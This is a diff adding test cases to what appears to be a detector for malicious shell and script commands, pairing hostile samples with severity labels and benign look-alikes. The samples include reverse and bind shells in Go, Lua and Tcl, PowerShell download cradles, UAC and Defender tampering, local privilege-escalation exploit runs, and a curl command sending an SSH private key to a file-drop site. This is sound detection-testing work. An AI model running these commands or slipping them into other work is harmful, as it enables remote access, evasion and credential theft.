@@ -580,3 +580,40 @@ describe('twelfth round: shapes from the training split misses, each with a beni
     expect(['info', 'low']).toContain(worst(text));
   });
 });
+
+describe('thirteenth round: shapes the validation sources held that no rule read (issue 30)', () => {
+  it.each([
+    ['a Go program that dup2s its socket onto stdio and execs a shell', 'fd, _ := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM, 0)\nsyscall.Connect(fd, addr)\nsyscall.Dup2(fd, 0)\nsyscall.Dup2(fd, 1)\nsyscall.Exec("/bin/sh", []string{"sh"}, nil)', 'revshell.dup2_shell', 'critical'],
+    ['a Lua bind shell that runs what it receives', 'local socket=require("socket")\nlocal srv=assert(socket.bind("*",7000))\nlocal c=srv:accept()\nwhile true do local line=c:receive(); local p=io.popen(line); c:send(p:read("*a")) end', 'revshell.lua', 'critical'],
+    ['a Tcl reverse shell', 'set s [socket 10.0.0.5 7000]\nwhile 1 { gets $s cmd; set out [exec $cmd]; puts $s $out; flush $s }', 'revshell.tcl', 'critical'],
+    ['a cradle read into a script block and invoked', "$r=[Net.HttpWebRequest]::Create('http://10.0.0.5/p').GetResponse().GetResponseStream();$t=(New-Object IO.StreamReader $r).ReadToEnd();[ScriptBlock]::Create($t).Invoke()", 'cradle.powershell', 'high'],
+    ['a method called through a Get-Member query', "$w=New-Object Net.WebClient;$w.(($w|Get-Member|Where-Object{$_.Name -like '*wn*g'}).Name).Invoke('http://10.0.0.5/p')", 'exec.member_name_obfuscation', 'high'],
+    ['a command called through a wildcard alias lookup', ".(GAL I*X)($payload)", 'exec.member_name_obfuscation', 'high'],
+    ['the system volume opened raw', '$h = New-Object IO.FileStream "\\\\.\\C:", "Open", "Read", "ReadWrite"; $h.Read($b, 0, 512)', 'evasion.raw_volume_read', 'medium'],
+    ['UAC switched off', 'reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /t REG_DWORD /d 0 /f', 'evasion.uac_off', 'medium'],
+    ['a public kernel exploit compiled into /tmp and run', 'gcc pwnkit.c -o /tmp/pwnkit && chmod +x /tmp/pwnkit && /tmp/pwnkit', 'exploit.local_cve', 'high'],
+    ['an exploit named by its CVE run from the working folder', './cve-2021-3156 -u nobody', 'exploit.local_cve', 'high'],
+    ['the Guest account switched on and made an administrator', 'net user guest /active:yes\nnet localgroup administrators guest /add', 'persist.guest_account', 'medium'],
+    ['svchost.exe run from the public folder', 'copy payload.bin "%PUBLIC%\\svchost.exe"\n"%PUBLIC%\\svchost.exe"', 'evasion.system_name_elsewhere', 'medium'],
+    ["a Defender exclusion written into the registry", 'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths" /v C:\\work /t REG_DWORD /d 0 /f', 'evasion.defender', 'high'],
+    ['key and certificate-store extensions searched for recursively', 'foreach ($e in @(".key", ".pgp", ".ppk", ".pfx", ".p12")) { Get-ChildItem -Path C:\\ -Recurse -File -Include "*$e" }', 'cred.private_key_search', 'medium'],
+    ['a file posted to an anonymous drop (dual-use: low alone)', 'curl -F "file=@/home/u/.ssh/id_rsa" https://file.io', 'exfil.file_drop', 'low'],
+  ])('%s', (_n, text, id, severity) => {
+    expect(technique(text, id)?.severity).toBe(severity);
+  });
+  it.each([
+    ['a daemon that dup2s /dev/null before exec', 'int fd = open("/dev/null", O_RDWR);\ndup2(fd, 0);\ndup2(fd, 1);\nexecl("/usr/sbin/mydaemon", "mydaemon", NULL);'],
+    ['a Lua HTTP client', 'local http=require("socket.http")\nlocal body=http.request("https://example.org/")\nprint(body)'],
+    ['a Tcl client that reads a greeting', 'set s [socket mail.example.org 25]\ngets $s greeting\nputs $s "QUIT"\nclose $s'],
+    ['members listed, not called', "Get-Process | Get-Member | Where-Object { $_.Name -like '*Time*' } | Select-Object Name"],
+    ['the invoker used by name', '$ExecutionContext.InvokeCommand.ExpandString($template)'],
+    ['UAC prompts turned back on', 'reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /t REG_DWORD /d 1 /f'],
+    ['a download from a file drop', 'curl -o notes.txt https://transfer.sh/abc/notes.txt'],
+    ['the Guest account switched off', 'net user guest /active:no'],
+    ["a MIME table of key extensions next to a directory walk", "MIME = {'.pem': 'application/x-pem-file', '.key': 'application/pgp-keys', '.p12': 'application/x-pkcs12', '.pfx': 'application/x-pkcs12'}\nfor root, dirs, files in os.walk(path): pass"],
+    ['svchost looked up, or its path in System32', 'Get-Process svchost | Select-Object Id\n& C:\\Windows\\System32\\svchost.exe -k netsvcs'],
+    ["a package's CVE patch applied and its regression test named", 'patch -p1 < debian/patches/CVE-2021-4034.patch\n# regression: tests/cve-2014-6271.txt'],
+  ])('%s stays at low or below', (_n, text) => {
+    expect(['info', 'low']).toContain(worst(text));
+  });
+});
